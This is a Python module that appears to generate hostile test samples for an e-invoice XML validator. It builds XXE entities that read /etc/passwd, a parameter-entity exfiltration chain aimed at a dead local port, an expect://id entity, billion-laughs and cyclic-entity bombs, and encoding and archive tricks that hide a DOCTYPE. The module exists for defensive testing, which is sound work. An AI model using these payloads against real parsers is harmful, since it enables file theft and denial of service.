"""More attacks by XML: declarations hidden in an encoding or behind a comment, references to follow, disguises.

The large ones are no samples: ``tests/hostile`` makes them when they are judged.
"""

from __future__ import annotations

import bz2
import codecs
from collections.abc import Iterator
from typing import TYPE_CHECKING

from samples.generator.archives import gz, tar_gz
from samples.generator.cii import cii_invoice
from samples.generator.model import Attachment, Note
from samples.generator.pdf import facturx_pdf
from samples.generator.sample import Sample
from samples.generator.ubl import ubl_invoice

if TYPE_CHECKING:
    import pikepdf

_NOWHERE = "http://127.0.0.1:9"
_FILE = '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, 10))
_BOMB = f"<!DOCTYPE Invoice [<!ENTITY l0 'ha'>{_LAUGHS}]>"
Row = tuple[str, bytes, str, str | None]


def samples() -> Iterator[Sample]:
    """All of them."""
    for name, content, purpose, motif in (*_kinds(), *_encodings(), *_hidden(), *_followed(), *_elsewhere()):
        yield Sample(f"hostile/{name}", content, purpose, motif, None, valid=False)


def _text(doctype: str, note: str = "&x;", encoding: str = "UTF-8", prolog: str = "") -> str:
    text = ubl_invoice(notes=(Note("@@"),), doctype=doctype, prolog=prolog).decode()
    return text.replace("@@", note).replace('encoding="UTF-8"', f'encoding="{encoding}"', 1)


def _kinds() -> tuple[Row, ...]:
    def entity(address: str) -> bytes:
        return _text(f'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{address}">]>').encode()

    nested = (
        '<!DOCTYPE Invoice [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        f"<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{_NOWHERE}/?%f;'>\"> %e; %s;]>"
    )
    cycle = "<!DOCTYPE Invoice [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"
    attribute = _text(_BOMB, "x").replace('currencyID="EUR"', 'currencyID="&l9;"')
    return (
        ("xxe-ftp.xml", entity("ftp://127.0.0.1:9/x"), "entité externe : ftp", "XML_DOCTYPE"),
        ("xxe-jar.xml", entity(f"jar:{_NOWHERE}/x.jar!/x"), "entité externe : jar", "XML_DOCTYPE"),
        ("xxe-expect.xml", entity("expect://id"), "entité externe : expect", "XML_DOCTYPE"),
        ("external-dtd-file.xml", _text('<!DOCTYPE Invoice SYSTEM "file:///etc/passwd">', "x").encode(),
         "DTD externe : un fichier local", "XML_DOCTYPE"),
        ("nested-parameter-entity.xml", _text(nested, "x").encode(), "entités paramètres emboîtées, pour exfiltrer",
         "XML_DOCTYPE"),
        ("cyclic-entity.xml", _text(cycle, "&a;").encode(), "entités qui se citent l'une l'autre", "XML_DOCTYPE"),
        ("attribute-bomb.xml", attribute.encode(), "expansion dans des attributs", "XML_DOCTYPE"),
    )  # fmt: skip


def _encodings() -> tuple[Row, ...]:
    wide = _text(_FILE, encoding="UTF-16")
    head, rest = _text(_FILE, encoding="UTF-7").split("?>", 1)
    good = _text("", "Réglé à l’échéance")
    return (
        ("xxe-utf16-be.xml", codecs.BOM_UTF16_BE + wide.encode("utf-16-be"), "entité externe en UTF-16 gros-boutiste",
         "XML_DOCTYPE"),
        ("xxe-utf16-bare.xml", wide.encode("utf-16-le"), "entité externe en UTF-16 sans BOM", "XML_DOCTYPE"),
        ("xxe-utf7.xml", (head + "?>").encode() + rest.encode("utf-7"), "entité externe en UTF-7", "XML_ENCODING"),
        ("xxe-utf32-be.xml", _text(_FILE, encoding="UTF-32").encode("utf-32-be"),
         "entité externe en UTF-32 sans BOM", "XML_ENCODING"),
        ("xxe-ebcdic.xml", _text(_FILE, encoding="cp037").encode("cp037"), "entité externe en EBCDIC", "XML_ENCODING"),
        ("overlong.xml", _text(_FILE).encode().replace(b"<!DOCTYPE", b"\xc0\xbc!DOCTYPE"),
         "« < » du DOCTYPE sur deux octets", "XML_ENCODING"),
        ("bom-mismatch.xml", codecs.BOM_UTF16_BE + good.replace("UTF-8", "UTF-16", 1).encode("utf-16-le"),
         "BOM gros-boutiste, texte petit-boutiste", "XML_NOT_XML"),
        ("bom-contradiction.xml", codecs.BOM_UTF8 + good.replace("UTF-8", "UTF-16", 1).encode(),
         "BOM UTF-8, déclaration UTF-16", "XML_ENCODING"),
    )  # fmt: skip


def _hidden() -> tuple[Row, ...]:
    comment = f"<!--{'c' * 100_000}-->"
    lower = "<!doctype Invoice [<!ENTITY x 'y'>]>"
    return (
        ("doctype-after-comment.xml", _text(_FILE, prolog=comment).encode(), "DOCTYPE après 100 ko de commentaire",
         "XML_DOCTYPE"),
        ("doctype-lower-case.xml", _text(lower).encode(), "DOCTYPE en minuscules", "XML_DOCTYPE"),
        ("long-name.xml", b"<" + b"a" * 60_000 + b"/>", "nom d'élément de 60 ko", "XML_TOO_COMPLEX"),
        ("depth-250.xml", b"<a>" * 251 + b"</a>" * 251, "251 niveaux, un de trop", "XML_TOO_COMPLEX"),
        ("gzip-as-xml.xml", gz(_text("", "x").encode()), "gzip nommé .xml", "ARCHIVE_UNREADABLE"),
        ("bzip2-as-xml.xml", bz2.compress(_text("", "x").encode()), "bzip2 nommé .xml", "TYPE_UNKNOWN"),
    )  # fmt: skip


def _followed() -> tuple[Row, ...]:
    instance = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    local = f'{instance} xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 file:///etc/passwd"'
    bare = f'{instance} xsi:noNamespaceSchemaLocation="{_NOWHERE}/i.xsd"'
    return (
        ("schema-location-file.xml", ubl_invoice(number="H-2026-31", root_attributes=local),
         "xsi:schemaLocation vers un fichier local : accepté, jamais lu", None),
        ("no-namespace-location.xml", ubl_invoice(number="H-2026-32", root_attributes=bare),
         "xsi:noNamespaceSchemaLocation vers ailleurs : accepté, jamais suivi", None),
    )  # fmt: skip


def _elsewhere() -> tuple[Row, ...]:
    attack = _text(_FILE).encode()
    attached = ubl_invoice(number="H-2026-33", attachments=(Attachment("piece.xml", attack, "text/xml"),))
    return (
        ("xxe-member.tar.gz", tar_gz((("facture.xml", attack),)), "entité externe dans une archive", "XML_DOCTYPE"),
        ("xxe-attachment.xml", attached, "entité externe dans une pièce jointe : acceptée, jamais analysée", None),
        ("xmp-bomb.pdf", facturx_pdf(cii_invoice(number="H-2026-34"), edit=_xmp_bomb),
         "expansion dans les métadonnées XMP", "PDFA_WARNING"),
    )  # fmt: skip


def _xmp_bomb(pdf: pikepdf.Pdf) -> None:
    metadata = pdf.Root.Metadata
    metadata.write(_BOMB.encode() + metadata.read_bytes().replace(b">Facture<", b">&l9;<"))
